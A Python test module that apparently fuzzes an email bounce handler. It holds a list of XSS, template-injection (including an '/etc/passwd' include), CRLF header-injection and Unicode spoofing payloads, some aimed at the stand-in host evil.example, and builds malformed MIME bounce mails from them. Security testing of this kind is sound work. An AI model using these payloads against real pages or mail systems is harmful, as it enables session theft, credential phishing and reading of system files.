"""Words that would be more than words, if a page were careless; and mails full of them.

Knows HTML, MIME and charsets as an attacker uses them. Does not know the pages.
"""

import base64
import quopri
import random

__all__ = ["MARK", "PAYLOADS", "mail"]

MARK = "pwned"  #: what a script would leave behind: window.pwned, or a request for it

PAYLOADS: tuple[str, ...] = (
    f"<script>window.{MARK}=1</script>",
    f"</script><script>{MARK}=1</script>",
    f"<img src=x onerror={MARK}=1>",
    f"<svg/onload={MARK}=1>",
    f"\"><svg onload='{MARK}=1'>",
    f"' onmouseover='{MARK}=1' autofocus onfocus='{MARK}=1",
    f"\" autofocus onfocus=\"{MARK}=1\" x=\"",
    f"<a href='javascript:{MARK}=1'>click</a>",
    f"javascript:{MARK}=1",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url=https://evil.example/{MARK}'>",
    f"<base href='https://evil.example/{MARK}/'>",
    f"<link rel=stylesheet href='//evil.example/{MARK}.css'>",
    f"<style>@import '//evil.example/{MARK}';</style>",
    f"<form action='//evil.example/{MARK}'><input name=form_token><button>Log in</button></form>",
    f"</title></textarea></style></noscript><script>{MARK}=1</script>",
    f"<!--><script>{MARK}=1</script-->",
    f"<![CDATA[<script>{MARK}=1</script>]]>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}=1>",
    f"&lt;script&gt;{MARK}=1&lt;/script&gt;&#60;script&#62;&#x3c;b>",
    "{{ 7*191 }}{% include '/etc/passwd' %}{{ cycler.__init__ }}",
    f"`<b>{MARK}</b>` ``` `",
    f"+ADw-script+AD4-{MARK}=1+ADw-/script+AD4-",
    f"%3Cscript%3E{MARK}=1%3C/script%3E",
    f"\x1b]8;;https://evil.example\x07{MARK}\x1b]8;;\x07\x1b[2J",
    "user\u202egpj.exe \u2066\u2067admin\u2069 \u200b\u00ad\ufeff",
    "\0\x01\x08\x0b\x0c\x7f\x85\u2028\u2029\ud800\udfff\ufffe",
    "a\r\nSet-Cookie: bounce_sidecar_session=x\r\n\r\n<script>",
    "A" * 5000 + "<b>" + "\u0301" * 500,
    "<" * 2000,
)  # fmt: skip

_CHARSETS = (
    "utf-8",
    "utf-7",
    "utf-16",
    "iso-2022-jp",
    "hz",
    "shift_jis",
    "x-user-defined",
    "<script>",
    "'\"",
)


def mail(chance: random.Random) -> bytes:
    """A mail of which every field and part says something else than it should."""
    bad = lambda: chance.choice(PAYLOADS)  # noqa: E731  # one word for each place
    boundary = chance.choice(("b", '"><script>', "b'b"))
    lines = [
        f"From: {_word(bad(), chance)} <{_flat(bad())}@evil.example>",
        f"To: {_flat(bad())}",
        f"Subject: {_word(bad(), chance)}",
        f"X-{_flat(bad())[:40]}: {_flat(bad())}",
        f"Date: {_flat(bad())}",
        f'Content-Type: multipart/report; boundary="{boundary}"; report-type="{_flat(bad())[:80]}"',
        "",
        f"--{boundary}",
        f'Content-Type: text/html; charset="{chance.choice(_CHARSETS)}"; name="{_flat(bad())[:80]}"',
        "",
        f"<html><body>{bad()}<p>{bad()}</body></html>",
        f"--{boundary}",
        f'Content-Type: image/{_flat(bad())[:40]}; name="{_flat(bad())[:80]}"',
        f'Content-Disposition: attachment; filename="{_flat(bad())[:80]}"',
        "",
        "x",
        f"--{boundary}",
        f"Content-Type: text/plain; charset={chance.choice(_CHARSETS)}",
        "Content-Transfer-Encoding: quoted-printable",
        "",
        quopri.encodestring(bad().encode(errors="surrogatepass")).decode(),
        f"--{boundary}",
        "Content-Type: message/delivery-status",
        "",
        f"Reporting-MTA: dns; {_flat(bad())}",
        "",
        f"Final-Recipient: rfc822; {_flat(bad())}",
        "Action: failed",
        f"Status: {_flat(bad())}",
        f"Diagnostic-Code: smtp; 550 {_flat(bad())}",
        f"--{boundary}--",
        "",
    ]
    return "\r\n".join(lines).encode(errors="surrogatepass")


def _flat(words: str) -> str:
    return words.replace("\r", " ").replace("\n", " ")


def _word(words: str, chance: random.Random) -> str:
    """As an encoded word (RFC 2047), in a charset that may lie."""
    octets = base64.b64encode(words.encode(errors="surrogatepass")[:200]).decode()
    return f"=?{chance.choice(_CHARSETS)}?b?{octets}?=" if chance.random() < 0.5 else _flat(words)
